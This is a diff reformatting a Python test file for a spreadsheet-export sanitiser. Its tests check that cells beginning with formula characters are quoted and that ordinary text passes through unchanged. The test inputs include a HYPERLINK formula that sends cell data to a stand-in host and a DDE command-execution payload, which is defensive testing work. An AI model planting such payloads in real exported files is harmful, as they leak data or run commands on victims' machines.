@@ -18,8 +18,15 @@ def table_of(rows: list[dict[str, Any]]) -> list[list[str]]:
 
 @pytest.mark.parametrize(
     "text",
-    ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-     "\t=1+1", "\r=1+1", "-1.5"],
+    [
+        '=HYPERLINK("http://x.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "-1.5",
+    ],
     ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "negative-looking-text"],
 )
 def test_text_that_a_spreadsheet_would_run_is_quoted(text: str) -> None:
@@ -36,12 +43,16 @@ def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row() -> None:
     assert [row[0] for row in rows] == ["cell", "ok\r=1+1", "next"]
 
 
-@pytest.mark.parametrize(("number", "text"), [(-1.5, "-1.5"), (-3, "-3"), (0.25, "0.25"), (-1e-07, "-1e-07")])
+@pytest.mark.parametrize(
+    ("number", "text"), [(-1.5, "-1.5"), (-3, "-3"), (0.25, "0.25"), (-1e-07, "-1e-07")]
+)
 def test_numbers_stay_numbers_even_when_negative(number: float, text: str) -> None:
     assert table_of([{"cell": number}])[1][0] == text
 
 
-@pytest.mark.parametrize("text", ["Lyari Front", "FIR-12", "suppressed (3/4)", "", "a=b", "'quoted"])
+@pytest.mark.parametrize(
+    "text", ["Lyari Front", "FIR-12", "suppressed (3/4)", "", "a=b", "'quoted"]
+)
 def test_ordinary_text_is_written_as_it_is(text: str) -> None:
     assert spreadsheet_safe(text) == text
 
